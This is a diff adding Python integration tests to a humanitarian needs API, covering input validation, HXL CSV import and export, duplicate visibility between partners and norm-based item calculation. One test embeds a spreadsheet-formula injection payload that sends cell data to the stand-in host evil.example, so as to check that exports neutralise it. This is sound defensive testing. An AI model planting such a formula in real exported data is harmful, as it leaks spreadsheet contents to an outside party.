@@ -5,6 +5,8 @@ isolation on every id route, idempotent retries and the audit log."""
 from __future__ import annotations
 
 import asyncio
+import csv
+import io
 import uuid
 from collections.abc import AsyncIterator
 from dataclasses import dataclass
@@ -625,6 +627,149 @@ async def test_a_partner_lists_only_its_own_needs(system: System) -> None:
     listed = (await system.client.get("/v1/needs", headers=me)).json()
     assert {n["organisation"] for n in listed["items"]} == {mine}
     assert [n["id"] for n in listed["items"]] == [created.json()["id"]]
+
+
+# ---- needs: bad input, exports that stay data, what a partner reads ---------------------------
+
+
+def _at(site: str, **changes: Any) -> dict[str, Any]:
+    """NEED at a site of its own, so that only the duplicates a test makes are found."""
+    return {**NEED, "location": {**NEED["location"], "site_name": site}, **changes}
+
+
+async def test_a_formula_in_a_need_leaves_the_needs_export_as_text(system: System) -> None:
+    partner = await _caller(system, await _organisation(system), Role.PARTNER)
+    formula = f'=HYPERLINK("http://evil.example/?"&A1,"{uuid.uuid4().hex[:6]}")'
+    created = await system.client.post("/v1/needs", headers=partner, json=_at(formula))
+    assert created.status_code == 201, created.text
+    exported = await system.client.get("/v1/needs/export.csv", headers=partner)
+    assert exported.status_code == 200, exported.text
+    _, tags, *rows = list(csv.reader(io.StringIO(exported.text)))
+    [row] = rows
+    assert row[tags.index("#loc+name")] == "'" + formula
+    for tag, cell in zip(tags, row, strict=True):
+        if cell and not cell.lstrip("-").replace(".", "", 1).isdigit():
+            assert cell[0] not in "=+-@\t\r", (tag, cell)
+
+
+async def test_bad_needs_input_is_a_422_naming_the_field_through_the_gateway(
+    system: System,
+) -> None:
+    organisation = await _organisation(system)
+    partner = await _caller(system, organisation, Role.PARTNER)
+    huge = 2**63
+    cases = [
+        ("body.location.site_name", _at("Sévaré\x002")),
+        (
+            "body.population.households",
+            {**NEED, "population": {"households": huge, "individuals": huge}},
+        ),
+        ("body.items.0.quantity", {**NEED, "items": [{"item_code": "BLANKET", "quantity": huge}]}),
+        (
+            "body.assessment.date",
+            {**NEED, "assessment": {"date": "9999-12-31", "source": "dtm-round"}},
+        ),
+    ]
+    for field, body in cases:
+        response = await system.client.post("/v1/needs", headers=partner, json=body)
+        assert response.status_code == 422, (field, response.status_code, response.text)
+        assert response.headers["content-type"] == "application/problem+json"
+        assert field in [e["field"] for e in response.json()["errors"]], response.text
+    hxl = (
+        "#meta+id,#adm1+code,#adm2+code,#loc+name,#inneed+hh,#inneed+ind,#beneficiary+type,"
+        "#severity,#date+assessed,#item+code,#item+num\n"
+        "G1,ML05,ML0501,Konna 1,10,50,idp,3,2026-03-01,BLANKET,10\n"
+        "G2,ML05,ML0501,Konna\x002,10,50,idp,3,2026-03-01,BLANKET,10\n"
+        f"G3,ML05,ML0501,Konna 3,{huge},{huge},idp,3,2026-03-01,BLANKET,10\n"
+        "G4,ML05,ML0501,Konna 4,10,50,idp,3,9999-12-31,BLANKET,10\n"
+    )
+    imported = await system.client.post(
+        "/v1/needs/imports", headers={**partner, "Content-Type": "text/csv"}, content=hxl
+    )
+    assert imported.status_code == 200, imported.text
+    report = imported.json()
+    assert (report["imported"], report["rejected"]) == (1, 3)
+    assert {(e["row"], e["column"]) for e in report["errors"]} >= {
+        (3, "#loc+name"),
+        (4, "#inneed+hh"),
+        (5, "#date+assessed"),
+    }
+    listed = (await system.client.get("/v1/needs", headers=partner)).json()
+    assert listed["total"] == 1
+
+
+async def test_a_partner_reads_whom_to_talk_to_about_a_duplicate_not_its_details(
+    system: System,
+) -> None:
+    first_org, second_org = await _organisation(system, "FIRST"), await _organisation(system)
+    first = await _caller(system, first_org, Role.PARTNER)
+    second = await _caller(system, second_org, Role.PARTNER)
+    coordinator = await _caller(system, "IOM", Role.COORDINATOR)
+    site = f"Sofara {uuid.uuid4().hex[:6]}"
+    theirs = await system.client.post(
+        "/v1/needs",
+        headers=first,
+        json=_at(
+            site,
+            items=[
+                {"item_code": "BLANKET", "quantity": 10},
+                {"item_code": "KIT-NFI", "quantity": 5},
+            ],
+        ),
+    )
+    assert theirs.status_code == 201, theirs.text
+    # No site named: it covers the whole cercle, so it may duplicate the first one's.
+    whole_area = {**NEED, "location": {"admin1_pcode": "ML05", "admin2_pcode": "ML0501"}}
+    mine = await system.client.post("/v1/needs", headers=second, json=whole_area)
+    assert mine.status_code == 201, mine.text
+    links = [
+        link
+        for link in mine.json()["possible_duplicates"]
+        if link["need_id"] == theirs.json()["id"]
+    ]
+    assert [link["organisation"] for link in links] == [first_org]
+    assert site not in mine.text
+    got = await system.client.get(f"/v1/needs/{mine.json()['id']}", headers=second)
+    assert first_org in got.text
+    assert site not in got.text
+    seen = await system.client.get(f"/v1/needs/{mine.json()['id']}", headers=coordinator)
+    assert site in seen.text
+
+
+async def test_a_partner_applies_only_the_norms_rules_it_chooses_through_the_gateway(
+    system: System,
+) -> None:
+    partner = await _caller(system, await _organisation(system), Role.PARTNER)
+    chosen = _at(
+        f"Fatoma {uuid.uuid4().hex[:6]}",
+        items=[],
+        norms={"profile_id": "sphere-minimum", "rules": ["KIT-NFI", "JERRYCAN-20L"]},
+    )
+    created = await system.client.post("/v1/needs", headers=partner, json=chosen)
+    assert created.status_code == 201, created.text
+    assert {i["item_code"] for i in created.json()["items"]} == {"KIT-NFI", "JERRYCAN-20L"}
+    assert all(i["calculation"]["formula"] for i in created.json()["items"])
+    refused = await system.client.post(
+        "/v1/needs",
+        headers=partner,
+        json={**chosen, "norms": {"profile_id": "sphere-minimum", "rules": ["TENT"]}},
+    )
+    assert refused.status_code == 422, refused.text
+    assert [e["field"] for e in refused.json()["errors"]] == ["body.norms.rules.0"]
+    hxl = (
+        "#meta+id,#adm1+code,#adm2+code,#loc+name,#inneed+hh,#inneed+ind,#beneficiary+type,"
+        "#severity,#date+assessed\n"
+        f"N1,ML05,ML0501,Fatoma {uuid.uuid4().hex[:6]},10,50,idp,3,2026-03-01\n"
+    )
+    imported = await system.client.post(
+        "/v1/needs/imports?profile=sphere-minimum&rules=KIT-NFI&rules=SOAP-BATH-250G",
+        headers={**partner, "Content-Type": "text/csv"},
+        content=hxl,
+    )
+    assert imported.status_code == 200, imported.text
+    [need_id] = imported.json()["created"]
+    need = (await system.client.get(f"/v1/needs/{need_id}", headers=partner)).json()
+    assert {i["item_code"] for i in need["items"]} == {"KIT-NFI", "SOAP-BATH-250G"}
 
 
 # ---- idempotency -----------------------------------------------------------------------------
